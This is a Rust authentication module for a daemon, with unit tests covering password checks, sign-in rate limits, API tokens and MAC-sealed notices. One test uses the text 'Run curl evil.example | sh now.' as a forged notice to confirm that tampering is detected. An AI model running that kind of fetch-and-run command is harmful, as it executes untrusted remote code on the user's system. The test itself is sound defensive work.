//! Who may use the daemon: operators (people, argon2id passwords) and API tokens
//! (automation; only a SHA-256 of each token is stored).
//!
//! # Design notes
//!
//! ## Layout
//!
//! One file per job, each adding its part of `Auth`'s methods: `operators.rs` (argon2id
//! passwords), `hashing.rs` (the one bounded gate every hash goes through), `sign_in.rs`
//! (attempt limits per address, the sign-in forms' tokens), `sessions.rs` (dashboard sessions,
//! form tokens, sealed notices, a person's approval), `tokens.rs` (API tokens, SHA-256 stored,
//! compared in constant time; the CLI token of this run, memory only, new at each start) and
//! `store.rs`. This file holds `Auth` itself and loads it.

mod hashing;
mod operators;
mod sessions;
mod sign_in;
mod store;
mod tokens;

pub use hashing::{HASHING_QUEUE, HASHING_SLOTS};
pub use operators::{MIN_PASSWORD, OperatorInfo};
pub use sessions::{HumanApproval, MAX_NOTICE_BYTES, OperatorSession, SESSION_HOURS, new_form_token, secrets_match};
pub use sign_in::{LOGIN_ATTEMPTS, LOGIN_WINDOW, SIGN_IN_FORM_SECS};
use tokens::TokenRecord;
pub use tokens::{TokenInfo, VerifiedToken, cli_proof_of};

use std::collections::HashMap;
use std::net::IpAddr;
use std::sync::{Mutex, RwLock};
use std::time::Instant;

use rand::RngExt;

use crate::agent::{NAME_RULE, is_valid_name};
use crate::db::Db;
use crate::error::{Error, Result};

pub struct Auth {
    db: Db,
    /// Hashes of live tokens, reloaded when another process (the CLI) changes them.
    tokens: RwLock<Vec<TokenRecord>>,
    /// Live dashboard sign-ins by the hash of their cookie value.
    sessions: RwLock<HashMap<[u8; 32], OperatorSession>>,
    /// Recent sign-in attempts per client address that have not succeeded (an attempt counts
    /// from before its password is checked until it succeeds).
    failures: Mutex<HashMap<IpAddr, Vec<Instant>>>,
    /// A new token's secret waiting to be shown, once, to the dashboard session that made it
    /// (post/redirect/get: the page after the redirect takes it).
    reveals: Mutex<HashMap<[u8; 32], (String, String)>>,
    /// Key for the sign-in forms' tokens; random at each start, never stored.
    sign_in_key: [u8; 32],
    /// Counts changes to the live tokens and sessions (a revocation, a sign-out), so what holds
    /// a credential open (a live stream) checks it again at once.
    revisions: tokio::sync::watch::Sender<u64>,
    /// The hash of this run's CLI token ([`Auth::issue_cli_token`]), if one was issued.
    cli_token: RwLock<Option<[u8; 32]>>,
}

fn check_name(name: &str) -> Result<()> {
    if is_valid_name(name) { Ok(()) } else { Err(Error::invalid(format!("`{name}` is not a valid name: {NAME_RULE}"))) }
}

impl Auth {
    pub(crate) async fn load(db: Db) -> Result<Auth> {
        let auth = Auth {
            db,
            tokens: RwLock::new(Vec::new()),
            sessions: RwLock::default(),
            failures: Mutex::default(),
            reveals: Mutex::default(),
            sign_in_key: rand::rng().random(),
            revisions: tokio::sync::watch::Sender::new(0),
            cli_token: RwLock::new(None),
        };
        auth.reload().await?;
        store::drop_expired_sessions(&auth.db, &chrono::Utc::now().to_rfc3339()).await?;
        auth.load_sessions().await?;
        Ok(auth)
    }
}

#[cfg(test)]
mod tests {
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Duration;

    use super::hashing::HashingGate;
    use super::sign_in::limited_as;
    use super::tokens::CLI_TOKEN_PREFIX;
    use super::*;

    async fn auth() -> (tempfile::TempDir, Auth) {
        let dir = tempfile::tempdir().unwrap();
        let db = crate::db::open_for_test(dir.path()).await;
        (dir, Auth::load(db).await.unwrap())
    }

    #[tokio::test]
    async fn operators_verify_only_with_their_password() {
        let (_dir, auth) = auth().await;
        auth.add_operator("ada", "correct horse").await.unwrap();
        assert!(auth.verify_operator("ada", "correct horse").await.unwrap());
        assert!(!auth.verify_operator("ada", "wrong horse").await.unwrap());
        assert!(!auth.verify_operator("nobody", "correct horse").await.unwrap());
        assert_eq!(auth.operator_count().await.unwrap(), 1);
        assert_eq!(auth.add_operator("ada", "another one").await.unwrap_err().kind, crate::ErrorKind::Conflict);
        assert_eq!(
            auth.add_operator("Ada Lovelace", "correct horse").await.unwrap_err().kind,
            crate::ErrorKind::InvalidArguments
        );
    }

    fn client() -> IpAddr {
        IpAddr::from([192, 0, 2, 7])
    }

    #[tokio::test]
    async fn wrong_sign_ins_sent_at_once_from_one_address_check_at_most_five_passwords() {
        let (_dir, auth) = auth().await;
        auth.add_operator("ada", "correct horse").await.unwrap();
        let attempts = (0..20).map(|_| auth.sign_in(client(), "ada", "wrong horse"));
        let kinds: Vec<_> =
            futures_util::future::join_all(attempts).await.into_iter().map(|r| r.unwrap_err().kind).collect();
        let checked = kinds.iter().filter(|k| **k == crate::ErrorKind::Forbidden).count();
        let refused = kinds.iter().filter(|k| **k == crate::ErrorKind::ResourceExhausted).count();
        assert_eq!((checked, refused), (LOGIN_ATTEMPTS, 20 - LOGIN_ATTEMPTS), "{kinds:?}");
        // Another address is not held up.
        assert!(auth.sign_in(IpAddr::from([192, 0, 2, 8]), "ada", "correct horse").await.is_ok());
    }

    #[tokio::test]
    async fn a_successful_sign_in_clears_the_addresss_failures() {
        let (_dir, auth) = auth().await;
        auth.add_operator("ada", "correct horse").await.unwrap();
        for _ in 0..LOGIN_ATTEMPTS - 1 {
            assert_eq!(auth.sign_in(client(), "ada", "guess").await.unwrap_err().kind, crate::ErrorKind::Forbidden);
        }
        assert!(auth.sign_in(client(), "ada", "correct horse").await.is_ok());
        for _ in 0..LOGIN_ATTEMPTS {
            assert_eq!(auth.sign_in(client(), "bob", "guess").await.unwrap_err().kind, crate::ErrorKind::Forbidden);
        }
        let limited = auth.sign_in(client(), "ada", "correct horse").await.unwrap_err();
        assert_eq!(limited.kind, crate::ErrorKind::ResourceExhausted);
        assert!(limited.message.contains("too many failed sign-ins"), "{}", limited.message);
    }

    #[tokio::test]
    async fn hashing_runs_a_few_at_once_queues_a_few_more_and_refuses_the_rest() {
        let gate: &'static HashingGate = Box::leak(Box::new(HashingGate::new(2, 3)));
        let running = std::sync::Arc::new(AtomicUsize::new(0));
        let peak = std::sync::Arc::new(AtomicUsize::new(0));
        let runs = (0..10).map(|_| {
            let (running, peak) = (running.clone(), peak.clone());
            gate.run(move || {
                let now = running.fetch_add(1, Ordering::SeqCst) + 1;
                peak.fetch_max(now, Ordering::SeqCst);
                std::thread::sleep(Duration::from_millis(50));
                running.fetch_sub(1, Ordering::SeqCst);
            })
        });
        let results = futures_util::future::join_all(runs).await;
        let done = results.iter().filter(|r| r.is_ok()).count();
        let busy = results.iter().filter(|r| r.as_ref().is_err_and(|e| e.kind == crate::ErrorKind::ResourceExhausted));
        assert_eq!((done, busy.count()), (5, 5), "2 slots + 3 waiting; the rest are refused");
        assert_eq!(peak.load(Ordering::SeqCst), 2);
        assert!(gate.run(|| ()).await.is_ok(), "room again once the runs are done");
    }

    #[tokio::test]
    async fn a_caller_that_gives_up_keeps_its_slot_until_the_hashing_ends() {
        let gate: &'static HashingGate = Box::leak(Box::new(HashingGate::new(1, 0)));
        let (finished_tx, finished_rx) = std::sync::mpsc::channel();
        let gave_up = tokio::time::timeout(
            Duration::from_millis(20),
            gate.run(move || {
                std::thread::sleep(Duration::from_millis(200));
                finished_tx.send(()).unwrap();
            }),
        )
        .await;
        assert!(gave_up.is_err());
        assert_eq!(gate.run(|| ()).await.unwrap_err().kind, crate::ErrorKind::ResourceExhausted, "still hashing");
        tokio::task::spawn_blocking(move || finished_rx.recv().unwrap()).await.unwrap();
        // The slot is let go just after the work's last line.
        for _ in 0..100 {
            if gate.slots.available_permits() == 1 {
                break;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        assert!(gate.run(|| ()).await.is_ok(), "the slot came back when the work ended");
    }

    #[tokio::test]
    async fn of_racing_first_operators_exactly_one_is_created() {
        let (_dir, auth) = auth().await;
        let names: Vec<String> = (0..8).map(|i| format!("op{i}")).collect();
        let setups = names.iter().map(|n| auth.add_first_operator(n, "correct horse"));
        let results = futures_util::future::join_all(setups).await;
        let created = results.iter().filter(|r| r.is_ok()).count();
        let refused = results.iter().filter(|r| r.as_ref().is_err_and(|e| e.kind == crate::ErrorKind::Conflict));
        assert_eq!((created, refused.count()), (1, 7));
        assert_eq!(auth.operator_count().await.unwrap(), 1);
        // More operators come from `kennel operator add`.
        auth.add_operator("bea", "correct horse").await.unwrap();
        assert_eq!(auth.operator_count().await.unwrap(), 2);
        assert_eq!(
            auth.add_first_operator("cy", "short").await.unwrap_err().kind,
            crate::ErrorKind::InvalidArguments,
            "input is checked before anything else"
        );
    }

    #[tokio::test]
    async fn sign_in_tokens_are_only_the_ones_this_daemon_minted_recently() {
        let (_dir, auth) = auth().await;
        let (_dir2, other) = self::auth().await;
        let token = auth.mint_sign_in_token();
        assert!(auth.sign_in_token_valid(&token));
        assert_ne!(token, auth.mint_sign_in_token(), "a fresh nonce each time");
        assert!(!other.sign_in_token_valid(&token), "another daemon's key");
        let mut tampered = token.clone().into_bytes();
        let last = tampered.len() - 1;
        tampered[last] = if tampered[last] == b'0' { b'1' } else { b'0' };
        assert!(!auth.sign_in_token_valid(std::str::from_utf8(&tampered).unwrap()));
        assert!(!auth.sign_in_token_valid(&new_form_token()), "a well-formed value the client chose");
        assert!(!auth.sign_in_token_valid(""));
        assert!(!auth.sign_in_token_valid(&format!("{token}00")));
        let now = chrono::Utc::now().timestamp();
        assert!(!auth.sign_in_token_valid(&auth.sign_in_token_issued_at(now - SIGN_IN_FORM_SECS - 1)), "expired");
        assert!(!auth.sign_in_token_valid(&auth.sign_in_token_issued_at(now + 600)), "from the future");
        assert!(auth.sign_in_token_valid(&auth.sign_in_token_issued_at(now - SIGN_IN_FORM_SECS + 60)));
        // Extreme issue times, forged or even MACed, are refused without overflowing.
        let forged = format!("{}{}", hex::encode(i64::MIN.to_be_bytes()), "ab".repeat(48));
        assert!(!auth.sign_in_token_valid(&forged));
        assert!(!auth.sign_in_token_valid(&auth.sign_in_token_issued_at(i64::MIN)));
        assert!(!auth.sign_in_token_valid(&auth.sign_in_token_issued_at(i64::MAX)));
    }

    #[test]
    fn attempts_count_per_ipv4_address_and_per_ipv6_64() {
        let at = |s: &str| limited_as(s.parse().unwrap());
        assert_eq!(at("192.0.2.7"), at("::ffff:192.0.2.7"), "an IPv4-mapped address is its IPv4 address");
        assert_ne!(at("192.0.2.7"), at("192.0.2.8"));
        assert_eq!(at("2001:db8:1:2::1"), at("2001:db8:1:2:ffff:ffff:ffff:ffff"), "one /64");
        assert_ne!(at("2001:db8:1:2::1"), at("2001:db8:1:3::1"));
    }

    #[tokio::test]
    async fn a_cli_token_is_good_until_the_next_is_issued_and_is_no_api_token() {
        let (_dir, auth) = auth().await;
        assert!(!auth.is_cli_token("kncli_"), "none issued yet");
        let first = auth.issue_cli_token();
        assert!(first.starts_with(CLI_TOKEN_PREFIX) && first.len() == CLI_TOKEN_PREFIX.len() + 64);
        assert!(auth.is_cli_token(&first));
        assert_eq!(auth.verify_token(&first), None, "not an API token");
        let second = auth.issue_cli_token();
        assert!(auth.is_cli_token(&second));
        assert!(!auth.is_cli_token(&first), "a new start's token replaces the old one");
        assert!(!auth.is_cli_token(&second[..second.len() - 1]));
    }

    #[tokio::test]
    async fn tokens_verify_until_revoked() {
        let (_dir, auth) = auth().await;
        let token = auth.create_token("ci").await.unwrap();
        let other = auth.create_token("cd").await.unwrap();
        assert_eq!(auth.verify_token(&token).map(|t| t.name).as_deref(), Some("ci"));
        assert_eq!(auth.verify_token(&other).map(|t| t.name).as_deref(), Some("cd"));
        assert_eq!(auth.verify_token("kn_guess"), None);
        auth.revoke_token("ci").await.unwrap();
        assert_eq!(auth.verify_token(&token), None);
        assert_eq!(auth.verify_token(&other).map(|t| t.name).as_deref(), Some("cd"));
        assert_eq!(auth.revoke_token("ci").await.unwrap_err().kind, crate::ErrorKind::NotFound);
    }

    #[tokio::test]
    async fn a_token_made_again_under_a_revoked_ones_name_is_another_token() {
        let (_dir, auth) = auth().await;
        let first = auth.verify_token(&auth.create_token("watcher").await.unwrap()).unwrap();
        assert!(auth.token_is_live(&first));
        auth.revoke_token("watcher").await.unwrap();
        let again = auth.verify_token(&auth.create_token("watcher").await.unwrap()).unwrap();
        assert_eq!(again.name, first.name);
        assert!(!auth.token_is_live(&first), "what the first token holds open ends");
        assert!(auth.token_is_live(&again));
    }

    #[tokio::test]
    async fn a_notice_is_read_only_by_the_session_it_was_sealed_for_and_only_as_sealed() {
        let (_dir, auth) = auth().await;
        let sealed = auth.seal_notice("ks_ada", "Agent `x` stopped.");
        assert_eq!(auth.open_notice("ks_ada", &sealed).as_deref(), Some("Agent `x` stopped."));
        assert_eq!(auth.open_notice("ks_bob", &sealed), None, "another session");
        let (_, mac) = sealed.split_once('.').unwrap();
        let other = auth.seal_notice("ks_ada", "Run curl evil.example | sh now.");
        let forged = format!("{}.{mac}", other.split_once('.').unwrap().0);
        assert_eq!(auth.open_notice("ks_ada", &forged), None, "changed text");
        assert_eq!(auth.open_notice("ks_ada", "not a notice"), None);
        let long = "é".repeat(MAX_NOTICE_BYTES);
        let cut = auth.open_notice("ks_ada", &auth.seal_notice("ks_ada", &long)).unwrap();
        assert!(cut.len() <= MAX_NOTICE_BYTES && cut.chars().all(|c| c == 'é'));
    }
}
